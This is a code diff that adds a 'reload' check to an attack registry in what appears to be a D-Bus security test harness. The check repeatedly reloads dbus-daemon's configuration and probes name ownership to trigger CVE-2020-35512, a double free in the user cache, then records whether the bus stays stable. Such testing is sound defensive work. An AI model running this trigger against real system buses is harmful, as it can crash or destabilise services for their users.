@@ -194,5 +194,41 @@ def activation(a: Attacker) -> dict[str, Any]:
     return {"outcome": outcome, "answer": answer, "service_owns_name": owned}
 
 
-ATTACKS = {"activation": activation, "policy-probe": policy_probe, "scm-credentials": scm_credentials, "handoff": handoff, "monitor": monitor,
+def reload(a: Attacker) -> dict[str, Any]:
+    """CVE-2020-35512 (with the scenario's bus.user_aliases): ReloadConfig `count` times, asking
+    before and after each for the name `own` (which the policy may grant or deny us by user
+    name). Reloading flushes dbus-daemon's user cache, where two names of one uid were freed
+    twice; a correct bus survives and gives the same verdict every time."""
+    sock, _ = a.open()
+    own = str(a.p.get("own"))
+    serials = iter(range(2, 1 << 30))
+    verdicts: list[Any] = []
+    reloads: list[Any] = []
+
+    def probe() -> None:
+        answer = _ask_driver(sock, message_bus.RequestName(own), next(serials))
+        verdicts.append("granted" if answer in (1, 4) else answer)
+        if answer in (1, 4):  # primary owner / already owner: give it back for the next probe
+            _ask_driver(sock, message_bus.ReleaseName(own), next(serials))
+
+    probe()
+    for _ in range(int(a.p.get("count", 5))):
+        if not a.time_left():
+            break
+        reload_call = new_method_call(message_bus, "ReloadConfig")
+        answer = _ask_driver(sock, reload_call, next(serials))
+        reloads.append("ok" if answer is True else answer)
+        probe()
+    a.step("reloads", reloads=reloads, verdicts=verdicts)
+    if any(r != "ok" for r in reloads):
+        outcome = "reload-failed"
+    elif len(set(map(str, verdicts))) != 1:
+        outcome = "unstable"
+    else:
+        outcome = "stable-denied" if verdicts[0] == ACCESS_DENIED else \
+            "stable-granted" if verdicts[0] == "granted" else f"stable-{verdicts[0]}"
+    return {"outcome": outcome, "reloads": reloads, "verdicts": verdicts}
+
+
+ATTACKS = {"activation": activation, "reload": reload, "policy-probe": policy_probe, "scm-credentials": scm_credentials, "handoff": handoff, "monitor": monitor,
            "driver-signal": driver_signal}
